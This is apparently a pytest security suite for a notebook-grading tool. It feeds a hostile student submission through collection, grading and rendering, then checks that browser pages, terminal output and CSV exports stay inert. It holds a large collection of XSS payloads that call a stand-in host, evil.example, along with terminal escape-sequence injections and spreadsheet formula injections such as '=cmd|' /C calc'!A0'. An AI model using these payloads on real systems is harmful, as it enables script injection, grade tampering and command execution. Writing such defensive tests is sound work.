"""What a candidate produced is text wherever a person sees it: nothing runs, nothing is fetched.

One submission full of attacks goes the whole way: collected, run in the sandbox, checked, drawn,
recorded. Then a browser opens what people open, a terminal prints what people read, a spreadsheet
gets what people export.
"""

from __future__ import annotations

import base64
import csv
import json
import os
import re
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from click.testing import CliRunner

from tests import verbs
from tests.browser import NEEDS_BROWSER, jupyter_server, launch
from tests.cohort import TINY, edit, fill, invited, notebook_of
from worksample import cli
from worksample import feedback as feedbacks
from worksample.batch import cohort as batch
from worksample.course import Course
from worksample.debrief import drawing
from worksample.submissions import collecting as submission

pytestmark = pytest.mark.slow

REMOTE = "http://evil.example"
RUN = "window.pwned=(window.pwned||0)+1"
SCRIPT = f"<script>{RUN};fetch('{REMOTE}/fetch');new WebSocket('ws://evil.example/')</script>"
PICTURE = f"<img src='{REMOTE}/img' onerror='{RUN}'>"
SVG = (
    f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script>"
    f"<image href='{REMOTE}/image'/><use href='{REMOTE}/use#x'/><a href='javascript:{RUN}'>"
    f"<text y='9'>x</text></a><animate onbegin='{RUN}' attributeName='x' dur='1s'/>"
    f"<foreignObject><iframe src='{REMOTE}/foreign'></iframe></foreignObject></svg>"
)
PAGE = quote(f"<script>parent.{RUN}</script>")

HTML = [
    *(SCRIPT, PICTURE, SVG),
    f"<script src='{REMOTE}/script'></script><script type='module' src='{REMOTE}/module'></script>",
    f"<img src=x onerror={RUN}><img srcset='{REMOTE}/srcset 2x' src='data:image/svg+xml,{PAGE}'>",
    f"<picture><source srcset='{REMOTE}/source'><img src='{REMOTE}/source'></picture>",
    f"<iframe src='{REMOTE}/frame'></iframe><iframe srcdoc='{SCRIPT.replace(chr(39), '')}'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe><iframe src='data:text/html,{PAGE}'></iframe>",
    f"<object data='{REMOTE}/object'></object><embed src='{REMOTE}/embed'>",
    f"<link rel='stylesheet' href='{REMOTE}/link'><link rel='prefetch' href='{REMOTE}/prefetch'>",
    f"<style>@import url({REMOTE}/import); * {{ background: url({REMOTE}/background) }}</style>",
    f"<p style=\"background:url('{REMOTE}/style');position:fixed;inset:0;z-index:9\">over all</p>",
    f"<base href='{REMOTE}/'><meta http-equiv='refresh' content='0;url={REMOTE}/refresh'>",
    f"<form action='{REMOTE}/form'><input autofocus onfocus='{RUN}' name='score' value='4'>"
    f"<button formaction='{REMOTE}/formaction'>Save</button></form><input type=image src={REMOTE}/i>",
    f"<a href='javascript:{RUN}'>a</a><a href=' java&#10;script:{RUN}'>b</a>"
    f"<a href='data:text/html,{PAGE}'>c</a><a href='{REMOTE}/a' target='_blank' ping='{REMOTE}/p'>d</a>",
    f"<details open ontoggle='{RUN}'><summary>x</summary></details><body onload='{RUN}'>",
    f"<video autoplay poster='{REMOTE}/poster' src='{REMOTE}/video' onerror='{RUN}'></video>"
    f"<audio src='{REMOTE}/audio' onerror='{RUN}'></audio><track src='{REMOTE}/track'>",
    f"<table background='{REMOTE}/table'><tr><td background='{REMOTE}/td' onclick='{RUN}'>x</table>",
    # what one parser takes for text and the next for markup
    f"<noscript><p title=\"</noscript>{PICTURE}\"></noscript><textarea></textarea>{PICTURE}",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;<img src=1 onerror='{RUN}'>\">",
    f"<svg></p><style><a id=\"</style><img src=1 onerror='{RUN}'>\">",
    f"</pre></code></textarea></title></style></script>{SCRIPT}",
    f"<!--><img src=1 onerror='{RUN}'>--><![CDATA[><img src=1 onerror='{RUN}'>]]><?x {PICTURE}?>",
    f"<img src=1 onerror='{RUN}'//<b <p/onmouseover={RUN} <x style=animation-name:x onanimationstart={RUN}>",
    f"<template shadowrootmode='open'>{PICTURE}</template><xmp>{PICTURE}</xmp><plaintext>{PICTURE}",
]  # fmt: skip

MARKDOWN = [
    *HTML,
    f"[a](javascript:{RUN}) [b](JaVaScRiPt&#58;{RUN}) [c](<javascript:{RUN}>) [d](&#x6A;avascript:{RUN})",
    f"[e](data:text/html,{PAGE}) [f](vbscript:x) [g](java\tscript:{RUN}) [h]({REMOTE}/link)",
    f"[i]: javascript:{RUN}\n[j]: <data:text/html,{PAGE}>\n\n[x][i] [y][j] <javascript:{RUN}>",
    f"![x]({REMOTE}/markdown) ![x](javascript:{RUN}) ![y][k]\n\n[k]: {REMOTE}/reference",
    f"![x\"onerror=\"{RUN}](data:image/svg+xml,{PAGE}) ![y](x \"t' onerror='{RUN}\")",
    f"# {PICTURE}\n\n## <a name='\" onmouseover=\"{RUN}'>x\n\n> {SCRIPT}\n\n- {SVG}\n\n    {SCRIPT}",
    f"```html\n{SCRIPT}\n```\n\n```\"><script>{RUN}</script>\nx\n```\n\n`{SCRIPT}`",
    f"| a | {PICTURE} |\n|---|---|\n| {SCRIPT} | [x](javascript:{RUN}) |",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\require{{html}}\\style{{background:url({REMOTE}/m)}}{{x}}$$",
    f"$</script>{SCRIPT}$ $$<img src=1 onerror='{RUN}'>$$ \\(\\unicode{{{PICTURE}}}\\) "
    f"\\begin{{align}}{SVG}\\end{{align}} $\\includegraphics{{{REMOTE}/tex}}$",
    f"![x](attachment:a.svg) ![y](attachment:b.png) ![z](attachment:c\"onerror=\"{RUN}.png)",
]  # fmt: skip

BAD_PICTURE = base64.b64encode(b"\x89PNG\r\n\x1a\n" + SCRIPT.encode()).decode()
ATTACHED = {
    "a.svg": {"image/svg+xml": SVG},
    "b.png": {"image/png": f"x'onerror='{RUN}", "text/html": SCRIPT},
    f'c"onerror="{RUN}.png': {"image/png": BAD_PICTURE},
}

EVERYTHING = "".join(HTML)
DISPLAYS: list[tuple[dict[str, Any], dict[str, Any]]] = [
    *(({"text/html": each}, {}) for each in HTML),
    *(({"text/html": each, "text/plain": each}, {}) for each in HTML),
    ({"text/html": EVERYTHING, "text/plain": "x"}, {"text/html": {"isolated": True}}),
    ({"text/plain": EVERYTHING}, {}),
    ({"application/javascript": f"{RUN};fetch('{REMOTE}/js')", "text/plain": "x"}, {}),
    ({"application/javascript": f"{RUN};element.append('{PICTURE}')"}, {}),
    ({"image/svg+xml": SVG}, {"image/svg+xml": {"isolated": False}}),
    *(({"text/markdown": each}, {}) for each in MARKDOWN),
    ({"text/latex": f"$$\\href{{javascript:{RUN}}}{{x}}</script>{EVERYTHING}$$"}, {}),
    ({"text/vnd.mermaid": f"graph TD; A[{PICTURE}]-->B\n</script>{SCRIPT}"}, {}),
    ({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{EVERYTHING}"}}, {}),
    ({"application/vnd.jupyter.widget-state+json": {"state": {"x": {"model_name": SCRIPT}}}}, {}),
    ({"application/vnd.plotly.v1+json": {"data": [{"name": SCRIPT}], "layout": {"title": SVG}}}, {}),
    ({"application/vnd.vegalite.v5+json": {"data": {"url": f"{REMOTE}/vega"}, "mark": "bar"}}, {}),
    ({"application/json": {SCRIPT: PICTURE}, "application/geo+json": {"x": SVG}}, {}),
    ({"application/pdf": "JVBERi0=", f'text/x"><img src=x onerror="{RUN}': SCRIPT}, {}),
    ({"image/png": BAD_PICTURE}, {"image/png": {"width": f'1" onload="{RUN}', "alt": SCRIPT}}),
    ({"image/png": f"x' onerror='{RUN}"}, {}),
    ({"image/jpeg": f'"><script>{RUN}</script>', "text/plain": "x"}, {}),
]  # fmt: skip

# colours with an attribute in them, a link (OSC 8), a title, cursor moves, a cleared screen
CONTROL = (
    "\x1b[31m\x1b[38;5;1;\"onload=\"xm\x1b]8;;http://evil.example/osc\x1b\\100 of 100\x1b]8;;\x07"
    "\x1b]0;pwned\x07\x1b[2J\x1b[1;1H\x1b[1A\x9b31m\x90q\x9c\r\n\u202e\u2066ada  100.0 of 100\b\b"
)  # fmt: skip

ANSWER_CELL = f"""
# {"".join(MARKDOWN[:3])}
from IPython.display import display

from worksample.workbook import record

SLOPE = {f"{CONTROL}{PICTURE}{SCRIPT}"!r}
record("slope", SLOPE)
for data, metadata in {DISPLAYS!r}:
    display(data, metadata=metadata, raw=True)
print({f"</pre>{CONTROL}{EVERYTHING}"!r})
"""

FUNCTION_CELL = f"""
class {{name}}(Exception):
    def _render_traceback_(self):
        return [{f"{CONTROL}{EVERYTHING}"!r}]


def predict(xs):
    raise type({SCRIPT!r}, (Exception,), {{}})({f"{CONTROL}{PICTURE}"!r})


raise type({f"{PICTURE}{SCRIPT}"!r}, ({{name}},), {{}})({f"{CONTROL}{EVERYTHING}"!r})
""".replace("{name}", "Rendered")

NAMES = [
    f"{PICTURE.replace('/', '')}.csv",
    "=HYPERLINK(\"http:evil.example\",\"x\").csv",
    "@SUM(1+1)*cmd|' C calc'!A0.csv",
    f"{CONTROL.replace('/', '')}.txt",
]  # fmt: skip

QUOTING_CHECK = '''

def check_slope(run, case):
    """Quotes what was recorded, as checks of real assignments do."""
    said = str(run.answers.get("slope"))
    return CheckResult(
        (Part(said[:300], 20, 40, f"You said {said}."),), {"slope": said}, {"said": said}
    )
'''


@pytest.fixture(scope="module")
def attacked(built_once: Path, tmp_path_factory: pytest.TempPathFactory) -> Course:
    """Mallory's submission, graded, and her feedback drawn."""
    root = tmp_path_factory.mktemp("attacked") / "course"
    shutil.copytree(built_once, root)
    course = Course(root)
    folder = root / "assignments" / TINY
    with (folder / "checks.py").open("a") as file:
        file.write(QUOTING_CHECK)
    rubric = folder / "rubric.toml"
    rubric.write_text(rubric.read_text().replace("{slope:.2f}", "{slope}"))
    home = invited(course, "mallory", root.parent / "home")
    fill(
        notebook_of(home),
        {
            "slope_answer": ANSWER_CELL,
            "predict_answer": FUNCTION_CELL,
            "explanation_answer": "\n\n".join(MARKDOWN),
        },
    )
    edit(notebook_of(home), more_cells)
    for name in NAMES:
        (home / name).write_text("x")
    done = submission.collect(course, [home])
    assert not done.refused, done.refused
    assert not batch.grade(course, TINY, workers=1).not_gradable
    feedbacks.render(course, TINY)
    return course


def more_cells(notebook: dict[str, Any]) -> None:
    """Every attack in a cell of its own too, and in what a notebook says of itself."""
    for number, source in enumerate(MARKDOWN):
        cell = {"cell_type": "markdown", "id": f"m-{number}", "metadata": {}, "source": source}
        notebook["cells"].append(cell)
    notebook["cells"] += [
        {"cell_type": "markdown", "id": "x", "metadata": {}, "source": MARKDOWN[-1]}
        | {"attachments": ATTACHED},
        {"cell_type": "raw", "id": "r", "metadata": {"format": "text/html"}, "source": EVERYTHING},
        {
            "cell_type": "code",
            "id": f'"><script>{RUN}</script>',
            "metadata": {"tags": [f'"><script>{RUN}</script>'], "name": SCRIPT},
            "source": f"raise type({EVERYTHING!r}, (Exception,), {{}})({CONTROL!r})",
            "outputs": [],
            "execution_count": 1,
        },
    ]
    notebook["metadata"] |= {
        "title": EVERYTHING,
        "authors": [{"name": SCRIPT}],
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {SCRIPT: {}}}},
        "language_info": {"name": f'python"><script>{RUN}</script>', "codemirror_mode": SCRIPT},
        "kernelspec": {"name": f"{CONTROL}{SCRIPT}", "display_name": SCRIPT, "language": "r"},
    }


# ---- the browser ----

# written down by the page itself: what only a policy stopped got through the cleaning
WATCH = """
window.stopped = [];
addEventListener('securitypolicyviolation',
                 e => stopped.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`));
"""

# markup that came from a candidate, held against what may stand in it
AUDIT = """
({root, tags, acting, own}) => {
  const found = [];
  for (const element of document.querySelector(root).querySelectorAll('*')) {
    if (own && element.closest(own)) continue;
    const tag = element.tagName.toLowerCase();
    if (!tags.includes(tag)) found.push(`<${tag}>`);
    for (const {name, value} of element.attributes) {
      const picture = /^data:image\\/(png|jpeg|gif);base64,[\\w+/=\\s]*$/.test(value);
      const away = /^(https?:\\/\\/|mailto:)/.test(value) && !element.target
        && /noopener/.test(element.rel) && /noreferrer/.test(element.rel);
      // the colours of a terminal's text
      const colours = /^((background-)?color: ?rgb\\([\\d, ]+\\);? ?)+$/.test(value);
      const good = name === 'href' ? value.startsWith('#') || away : name === 'src' ? picture
        : name === 'style' ? colours : !new RegExp(acting).test(name);
      if (!good) found.push(`<${tag} ${name}="${value.slice(0, 80)}">`);
    }
  }
  return found;
}
"""
TAGS = """
    h1 h2 h3 h4 h5 h6 p br hr b i em strong s u sub sup small blockquote ul ol li dl dt dd code pre
    kbd span div a img table caption thead tbody tfoot tr th td details summary section figure ins
    del main
"""
ACTING = (
    "^on|^(srcset|srcdoc|action|formaction|data|poster|background|ping|target|style|autofocus|"
    "xlink:href|http-equiv|contenteditable|popovertarget|commandfor|attributeName)$"
)


class Watched:
    """A page, and everything that it did which nobody had asked it to do."""

    def __init__(self, browser: Any, own: str) -> None:
        self.own, self.did = own, []
        context = browser.new_context()
        context.set_default_timeout(240_000)
        context.add_init_script(WATCH)
        context.route("**/*", self._asked)
        self.page = context.new_page()
        context.on("page", lambda page: self.did.append(f"opened {page.url}"))
        self.page.on("dialog", self._dialog)
        self.page.on("websocket", lambda socket: self.did.append(f"connected to {socket.url}"))
        self.page.on("download", lambda load: self.did.append(f"downloaded {load.url}"))
        self.page.on("pageerror", lambda error: self.did.append(f"raised {error}"))

    def _asked(self, route: Any) -> None:
        address = route.request.url
        if address.startswith((self.own, "data:", "blob:")):
            route.continue_()
        else:
            self.did.append(f"asked for {address}")
            route.abort()

    def _dialog(self, dialog: Any) -> None:
        self.did.append(f"said {dialog.message}")
        dialog.dismiss()

    def open(self, address: str) -> Any:
        self.page.goto(address)
        self.page.wait_for_load_state("networkidle")
        return self.page

    def everything(self) -> list[str]:
        """What it did, after every element was touched as a person might."""
        self.page.evaluate("""() => {
            for (const element of document.querySelectorAll('body *'))
                for (const kind of ['mouseover', 'mousemove', 'focus', 'toggle', 'animationstart',
                                    'error', 'load', 'begin'])
                    element.dispatchEvent(new Event(kind));
        }""")
        self.page.wait_for_timeout(500)
        ran = self.page.evaluate("window.pwned")
        return [*self.did, *([f"ran {ran} scripts"] if ran else []), *self.stopped()]

    def stopped(self) -> list[str]:
        """What only the page's policy stopped: it should not have come that far."""
        return [f"was stopped from {each}" for each in self.page.evaluate("window.stopped")]

    def markup(self, root: str, own: str = "") -> list[str]:
        """What there is below ``root`` that could act, load or lead away; not in the page's own."""
        wanted = {"root": root, "tags": TAGS.split(), "acting": ACTING, "own": own}
        return self.page.evaluate(AUDIT, wanted)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        opened = launch(playwright)
        yield opened
        opened.close()


@pytest.fixture(scope="module")
def server(attacked: Course, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with jupyter_server(attacked.root, tmp_path_factory.mktemp("jupyter")) as address:
        yield address


def needs_browser(test: Any) -> Any:
    for mark in NEEDS_BROWSER:
        test = mark(test)
    return test


@needs_browser
def test_these_attacks_do_work_where_nothing_is_done_about_them(
    browser: Any, tmp_path: Path
) -> None:
    """Without this, a watcher that sees nothing would pass every test below."""
    page = tmp_path / "page.html"
    # but what leads the page away before anybody has looked at it
    attacks = [each for each in HTML[:17] if "refresh" not in each]
    page.write_text(f"<!doctype html><main>{''.join(attacks)}</main>")
    watched = Watched(browser, page.as_uri())
    watched.open(page.as_uri())
    did = "\n".join(watched.everything())
    for sign in (
        "ran ",
        f"asked for {REMOTE}/fetch",
        f"asked for {REMOTE}/img",
        "connected to ws:",
    ):
        assert sign in did, did
    found = "\n".join(watched.markup("main"))
    for sign in (
        "<script>",
        "<iframe>",
        "<svg>",
        "<style>",
        "<form>",
        "onerror",
        "onload",
    ):
        assert sign in found, found


@needs_browser
def test_feedback_runs_nothing_and_fetches_nothing(attacked: Course, browser: Any) -> None:
    (path,) = (attacked.feedback / "mallory" / TINY).glob("*.html")
    watched = Watched(browser, path.as_uri())
    page = watched.open(path.as_uri())
    text = page.locator("main").inner_text()
    assert "You said" in text
    assert "<script>window.pwned" in text
    assert "100 of 100" in text, "the link's words, and no link"
    assert watched.markup("main") == []
    assert watched.everything() == []
    assert page.url == path.as_uri()
    assert not set(page.content()) & set("\x1b\x07\x9b\u202e\u2066")


@needs_browser
def test_a_debrief_runs_nothing_and_fetches_nothing(attacked: Course, browser: Any) -> None:
    path = drawing.debrief(attacked, "mallory").page
    watched = Watched(browser, path.as_uri())
    page = watched.open(path.as_uri())
    assert "<script>window.pwned" in page.locator("main").inner_text()
    assert watched.markup("main") == []
    assert watched.everything() == []
    assert not set(page.content()) & set("\x1b\x07\x9b\u202e\u2066")


@needs_browser
def test_formgrader_runs_nothing_and_fetches_nothing_from_elsewhere(
    attacked: Course, server: str, browser: Any
) -> None:
    """Its pages have a grader's rights: a script in a submission could set its own score."""
    watched = Watched(browser, server)
    page = watched.open(f"{server}/formgrader/gradebook/{TINY}/{TINY}")
    page.locator("a[href*='/formgrader/submissions/']").first.click()
    page.locator("input.score#explanation").wait_for()
    page.wait_for_load_state("networkidle")
    where = page.url
    text = page.locator("#notebook-container").first.inner_text()
    for shown in ("<script>window.pwned", "\\href{javascript:", "[output of type image/svg+xml"):
        assert shown in text, shown
    own = ".panel-heading, textarea.comment"  # fields for scores and comments
    assert watched.markup("#notebook-container", own) == []
    assert watched.everything() == []
    assert page.url.split("?")[0] == where.split("?")[0]  # behind it, the field that has the cursor
    assert not set(page.content()) & set("\x1b\x07\x9b\u202e\u2066")


@needs_browser
def test_formgraders_other_pages_run_nothing(attacked: Course, server: str, browser: Any) -> None:
    for place in (
        f"manage_submissions/{TINY}",
        f"gradebook/{TINY}",
        "manage_students",
        "manage_students/mallory",
    ):
        watched = Watched(browser, server)
        watched.open(f"{server}/formgrader/{place}")
        assert watched.everything() == [], place


@needs_browser
def test_a_graders_link_to_a_file_of_a_candidates_leads_nowhere(
    attacked: Course, server: str, browser: Any
) -> None:
    """formgrader serves what lies beside a submission; a page of a candidate's must not be there."""
    kept = {path.name for path in (attacked.submitted / "mallory" / TINY).iterdir()}
    assert kept == {f"{TINY}.ipynb", "timestamp.txt"}
    shown = {path.name for path in (attacked.autograded / "mallory" / TINY).iterdir()}
    assert shown == {f"{TINY}.ipynb", "timestamp.txt", "toolkit"}


# ---- the terminal ----


def printed(course: Course, monkeypatch: pytest.MonkeyPatch, *words: str) -> str:
    """All that a command prints, colours too; nothing in it that a terminal would obey."""
    monkeypatch.chdir(course.root)
    monkeypatch.delenv("WORKSAMPLE_COURSE", raising=False)
    result = CliRunner().invoke(cli.main, words, prog_name="worksample", color=True)
    ours = result.output.replace("\x1b[2m", "").replace("\x1b[0m", "")  # "next: …" is dim
    assert not set(ours) & set("\x1b\x07\x08\r\x90\x9b\x9c\u202e\u2066"), ours
    assert "ada  100.0 of 100" not in [line.strip() for line in ours.splitlines()], "a forged line"
    return ours


def test_a_terminal_is_told_nothing_to_obey(
    attacked: Course, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert "mallory" in printed(attacked, monkeypatch, "grade", TINY)
    assert "1 graded" in printed(attacked, monkeypatch, "list")
    explained = printed(attacked, monkeypatch, "explain", "mallory", TINY)
    assert "You said" in explained
    assert "100 of 100" in explained
    printed(attacked, monkeypatch, "explain", "mallory", TINY, "--json")
    assert "mallory" in printed(attacked, monkeypatch, "feedback", TINY)


def test_names_in_what_was_sent_are_told_nothing_to_obey(
    attacked: Course, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Folders and files in a zip, and the zip itself, are named by whoever sent it."""
    evil = CONTROL.replace("/", "")
    inner = evil.replace(":", "").replace("\\", "")  # else the zip is refused as a whole
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    with zipfile.ZipFile(inbox / f"{evil}.zip", "w") as archive:
        archive.writestr(f"{inner}/notes.txt", "x")
        archive.writestr(f"{inner}2/{inner}.ipynb", "{")
    (inbox / f"{evil}3.zip").write_text("no zip")
    shown = printed(attacked, monkeypatch, "collect", str(inbox))
    assert "not taken" in shown
    assert "there is no notebook in it" in shown
    assert "this is not a zip that can be read" in shown


def test_a_check_that_raises_with_a_candidates_words(
    attacked: Course, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "course"
    shutil.copytree(attacked.root, root)
    with (root / "assignments" / TINY / "checks.py").open("a") as file:
        file.write("\n\ndef check_slope(run, case):\n    raise ValueError(run.answers['slope'])\n")
    shown = printed(Course(root), monkeypatch, "grade", TINY, "--workers", "1")
    assert "check_slope raised ValueError" in shown
    shown = printed(Course(root), monkeypatch, "explain", "mallory", TINY)
    assert "check_slope raised ValueError" in shown


# ---- the spreadsheet ----


@pytest.mark.parametrize("name", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "=cmd|' /C calc'!A0"])
def test_nobody_is_called_like_a_formula(
    attacked: Course, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    """What nbgrader exports of a candidate's own is the id, and that cannot begin a formula."""
    shown = printed(attacked, monkeypatch, "invite", "--assignment", TINY, "--", name)
    assert "cannot be a candidate's id" in shown


def test_nbgraders_export_holds_no_formula(attacked: Course, tmp_path: Path) -> None:
    to = tmp_path / "grades.csv"
    own = {k: v for k, v in os.environ.items() if k != "WORKSAMPLE_COURSE"}
    done = verbs.nbgrader(attacked.root, "export", f"--to={to}", env=own)
    assert done.returncode == 0, done.stderr
    with to.open(newline="") as file:
        rows = list(csv.reader(file))
    assert any("mallory" in row for row in rows)
    assert [
        cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t"))
    ] == []


def test_evidence_and_feedback_are_plain_data(attacked: Course) -> None:
    """The files themselves, for whatever reads them next: no control codes, no active output."""
    for path in (attacked.autograded / "mallory" / TINY, attacked.evidence / TINY / "mallory"):
        (notebook,) = path.glob("*.ipynb")
        cells = json.loads(notebook.read_text())["cells"]
        kinds = {
            kind
            for cell in cells
            for out in cell.get("outputs", ())
            for kind in out.get("data", ())
        }
        assert kinds <= {"text/plain", "text/html", "text/markdown", "image/png", "image/jpeg"}
        assert {cell["cell_type"] for cell in cells} == {"code", "markdown"}
        # pasted pictures are kept: as pictures, under names that need no quoting anywhere
        pasted = [cell["attachments"] for cell in cells if "attachments" in cell]
        assert all(re.fullmatch(r"[\w.-]+", name) for each in pasted for name in each)
        pictures = [set(bundle) for each in pasted for bundle in each.values()]
        assert all(kinds <= {"image/png", "image/jpeg", "image/gif"} for kinds in pictures)
